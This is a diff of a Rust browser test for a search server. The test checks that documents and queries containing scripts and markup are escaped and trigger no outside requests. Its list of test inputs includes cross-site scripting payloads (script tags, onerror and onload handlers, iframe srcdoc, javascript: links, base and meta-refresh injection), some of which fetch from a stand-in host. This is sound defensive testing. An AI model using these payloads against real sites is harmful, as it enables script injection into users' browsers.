@@ -1,4 +1,4 @@
-//! The page in a real browser, over documents that try to run in it.
+//! Cross-site scripting: the search page in a real browser, showing documents that contain scripts and markup.
 
 use std::{
     io::{Read as _, Write as _},
@@ -11,50 +11,42 @@ use std::{
 use serde_json::json;
 use testing::tiny_model;
 
-use crate::server::{Server, send, send_as};
+use crate::{
+    server::{Server, send, send_as},
+    tools::find_program,
+};
 
-/// The browser, under one of its names; `None` where it is not installed.
-fn browser() -> Option<&'static str> {
-    let found = ["chromium", "chromium-browser", "google-chrome"]
-        .into_iter()
-        .find(|name| Command::new(name).arg("--version").output().is_ok_and(|told| told.status.success()));
-    if found.is_none() {
-        assert!(std::env::var_os("NEARFIELD_REQUIRE_TOOLS").is_none(), "chromium is missing");
-        println!("SKIPPED: there is no chromium here");
-    }
-    found
-}
-
-/// Where everything a document could make the browser ask for ends up.
-struct Trap {
+/// A server that records all requests. Everything that a document could make the browser request is on this server.
+struct RecordingServer {
     address: SocketAddr,
-    asked: Arc<Mutex<Vec<String>>>,
+    requests: Arc<Mutex<Vec<String>>>,
 }
 
-impl Trap {
-    /// Answers every request with this page, and remembers it.
-    fn set(page: impl Fn(SocketAddr) -> String) -> Trap {
+impl RecordingServer {
+    /// Responds to every request with the page that `page` returns for the server's address.
+    fn start(page: impl Fn(SocketAddr) -> String) -> RecordingServer {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let address = listener.local_addr().unwrap();
-        let (page, asked) = (page(address), Arc::new(Mutex::new(Vec::new())));
-        let noted = asked.clone();
+        let (page, requests) = (page(address), Arc::new(Mutex::new(Vec::new())));
+        let recorded = requests.clone();
         std::thread::spawn(move || {
             for stream in listener.incoming() {
-                let (mut stream, page, noted) = (stream.unwrap(), page.clone(), noted.clone());
+                let (mut stream, page, recorded) = (stream.unwrap(), page.clone(), recorded.clone());
                 std::thread::spawn(move || {
                     if let Some(line) = request_line(&mut stream) {
-                        noted.lock().unwrap().push(line);
+                        recorded.lock().unwrap().push(line);
                         let head = "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n";
                         let _ = write!(stream, "{head}content-length: {}\r\n\r\n{page}", page.len());
                     }
                 });
             }
         });
-        Trap { address, asked }
+        RecordingServer { address, requests }
     }
 
-    fn asked(&self) -> Vec<String> {
-        self.asked.lock().unwrap().clone()
+    /// The request lines so far.
+    fn requests(&self) -> Vec<String> {
+        self.requests.lock().unwrap().clone()
     }
 }
 
@@ -68,61 +60,60 @@ fn request_line(stream: &mut TcpStream) -> Option<String> {
     String::from_utf8_lossy(&head).lines().next().map(str::to_owned)
 }
 
-/// What would run, or ask for something, if it became markup.
-fn hostile(trap: SocketAddr) -> Vec<String> {
+/// Texts that would run a script or send a request to `address` if they were interpreted as markup.
+fn hostile_texts(address: SocketAddr) -> Vec<String> {
     let run = "document.title='ran'";
-    let there = format!("http://elsewhere.example:{}", trap.port());
+    let url = format!("http://elsewhere.example:{}", address.port());
     vec![
-        format!("<script>{run};fetch('{there}/script')</script>"),
-        format!("<img src={there}/image onerror=\"{run}\">"),
-        format!("<img src=x onerror=\"{run};fetch('{there}/onerror')\">"),
-        format!("<svg onload=\"{run}\"><use href=\"{there}/use\"/></svg>"),
-        format!("<iframe src=\"{there}/frame\" srcdoc=\"<script>parent.{run}</script>\"></iframe>"),
+        format!("<script>{run};fetch('{url}/script')</script>"),
+        format!("<img src={url}/image onerror=\"{run}\">"),
+        format!("<img src=x onerror=\"{run};fetch('{url}/onerror')\">"),
+        format!("<svg onload=\"{run}\"><use href=\"{url}/use\"/></svg>"),
+        format!("<iframe src=\"{url}/frame\" srcdoc=\"<script>parent.{run}</script>\"></iframe>"),
         format!("<a href=\"javascript:{run}\">apple</a> javascript:{run}"),
-        format!("<link rel=stylesheet href={there}/style><style>@import '{there}/import'</style>"),
-        format!("</p></li></ol></main><script src={there}/late></script><base href={there}/>"),
-        format!("<meta http-equiv=refresh content=\"0;url={there}/refresh\">"),
-        format!(
-            "<form id=form action={there}/form><button autofocus onfocus=\"{run}\">apple</button></form>"
-        ),
+        format!("<link rel=stylesheet href={url}/style><style>@import '{url}/import'</style>"),
+        format!("</p></li></ol></main><script src={url}/late></script><base href={url}/>"),
+        format!("<meta http-equiv=refresh content=\"0;url={url}/refresh\">"),
+        format!("<form id=form action={url}/form><button autofocus onfocus=\"{run}\">apple</button></form>"),
         format!("</mark><details open ontoggle=\"{run}\">apple</details><!-- apple"),
         "${document.title='ran'} {{constructor.constructor('document.title=1')()}} apple \u{202e}".to_owned(),
     ]
 }
 
-/// The document as it stands when all has been loaded and run.
-fn dumped(browser: &str, profile: &Path, url: &str) -> String {
-    let seen = Command::new("timeout")
+/// The DOM of a page after everything has been loaded and run.
+fn dump_dom(browser: &str, profile: &Path, url: &str) -> String {
+    let output = Command::new("timeout")
         .args(["300", browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"])
         .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
         .args(["--no-proxy-server", "--virtual-time-budget=20000", "--dump-dom"])
-        // Every other host is this one, so that nothing asked for elsewhere is asked in vain.
+        // Resolves every host name to this machine, so that requests to other hosts are recorded.
         .arg("--host-resolver-rules=MAP * 127.0.0.1")
         .arg(format!("--user-data-dir={}", profile.display()))
         .arg(url)
         .output()
         .unwrap();
-    assert!(seen.status.success(), "{}: {}", seen.status, String::from_utf8_lossy(&seen.stderr));
-    String::from_utf8(seen.stdout).unwrap()
+    assert!(output.status.success(), "{}: {}", output.status, String::from_utf8_lossy(&output.stderr));
+    String::from_utf8(output.stdout).unwrap()
 }
 
 #[test]
-fn nothing_in_documents_or_questions_runs_in_the_page() {
-    let Some(browser) = browser() else { return };
+fn scripts_in_documents_and_queries_do_not_run_in_the_page() {
+    let browsers = ["chromium", "chromium-browser", "google-chrome"];
+    let Some(browser) = find_program(&browsers, "--version") else { return };
     let (home, profile) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
 
-    // The same texts as markup, on a page that lets them: the browser runs them, and asks for what they name.
-    let control = Trap::set(|trap| {
-        format!("<!doctype html><title>still</title><body>{}</body>", hostile(trap)[..3].concat())
+    // Control: on a page that contains the texts as markup, the browser runs the scripts and sends the requests.
+    let control = RecordingServer::start(|address| {
+        format!("<!doctype html><title>still</title><body>{}</body>", hostile_texts(address)[..3].concat())
     });
-    let seen = dumped(browser, profile.path(), &format!("http://{}/", control.address));
-    assert!(seen.contains("<title>ran</title>"), "{seen}");
-    for wanted in ["/script", "/image", "/onerror"] {
-        let asked = control.asked();
-        assert!(asked.iter().any(|line| line.contains(wanted)), "{wanted} is not in {asked:?}");
+    let dom = dump_dom(browser, profile.path(), &format!("http://{}/", control.address));
+    assert!(dom.contains("<title>ran</title>"), "{dom}");
+    for path in ["/script", "/image", "/onerror"] {
+        let requests = control.requests();
+        assert!(requests.iter().any(|line| line.contains(path)), "{path} is not in {requests:?}");
     }
 
-    let trap = Trap::set(|_| String::new());
+    let other = RecordingServer::start(|_| String::new());
     tiny_model::write(&home.path().join("models/tiny"), 1);
     let mut server = Server::start(home.path());
     server.wait_until_ready();
@@ -132,44 +123,44 @@ fn nothing_in_documents_or_questions_runs_in_the_page() {
         {"name": "embedding", "kind": "vector", "embed": {"fields": ["title", "content"], "model": "tiny"}},
     ]});
     let kb = format!("{}/collections/kb", server.address());
-    let (status, answer) = send("PUT", &kb, &schema).unwrap();
-    assert_eq!(status, 201, "{answer}");
-    let texts = hostile(trap.address);
-    // Every text is title, content and id once; the page shows ten.
-    for part in texts.chunks(6) {
-        for text in part {
+    let (status, response) = send("PUT", &kb, &schema).unwrap();
+    assert_eq!(status, 201, "{response}");
+    let texts = hostile_texts(other.address);
+    // Each text occurs in the id, the title and the content of a document. In chunks, because a page shows ten hits.
+    for chunk in texts.chunks(6) {
+        for text in chunk {
             let document =
                 json!([{"id": text, "title": format!("apple {text}"), "content": format!("{text} apple")}]);
             let body = document.to_string();
-            let (status, answer) =
+            let (status, response) =
                 send_as("POST", &format!("{kb}/documents"), "application/json", body).unwrap();
-            assert!(status == 200 && answer["created"] == 1, "{text}: {answer}");
+            assert!(status == 200 && response["created"] == 1, "{text}: {response}");
         }
-        let questions = [
+        let queries = [
             "apple",
             "<script>document.title='ran'</script> apple",
             "\"><img src=x onerror=document.title='ran'>",
         ];
-        for question in questions {
-            let asked = form_urlencoded::byte_serialize(question.as_bytes()).collect::<String>();
-            let seen = dumped(browser, profile.path(), &format!("{}/?q={asked}", server.address()));
-            assert!(seen.contains("<title>Nearfield</title>"), "a script ran: {seen}");
-            assert_eq!(seen.matches("<h2>").count(), part.len(), "not every document is shown: {seen}");
-            assert_eq!(seen.matches("<script").count(), 1, "{seen}");
-            assert!(seen.contains("<script src=\"/app.js\""), "{seen}");
+        for query in queries {
+            let encoded = form_urlencoded::byte_serialize(query.as_bytes()).collect::<String>();
+            let dom = dump_dom(browser, profile.path(), &format!("{}/?q={encoded}", server.address()));
+            assert!(dom.contains("<title>Nearfield</title>"), "a script ran: {dom}");
+            assert_eq!(dom.matches("<h2>").count(), chunk.len(), "some documents are not shown: {dom}");
+            assert_eq!(dom.matches("<script").count(), 1, "{dom}");
+            assert!(dom.contains("<script src=\"/app.js\""), "{dom}");
             for injected in
                 ["<img", "<svg", "<iframe", "<a ", "<style", "<base", "<form id=\"form\" action", "<details"]
             {
-                assert!(!seen.contains(injected), "{injected} became markup: {seen}");
+                assert!(!dom.contains(injected), "{injected} became markup: {dom}");
             }
-            // It is there, as text.
-            assert!(seen.contains("&lt;"), "{seen}");
+            // The markup is shown as text.
+            assert!(dom.contains("&lt;"), "{dom}");
         }
-        for text in part {
+        for text in chunk {
             let id = percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC);
             assert_eq!(send("DELETE", &format!("{kb}/documents/{id}"), &json!(null)).unwrap().0, 204);
         }
     }
-    assert_eq!(trap.asked(), Vec::<String>::new(), "the page asked for something elsewhere");
+    assert_eq!(other.requests(), Vec::<String>::new(), "the page sent requests to another host");
     server.kill();
 }
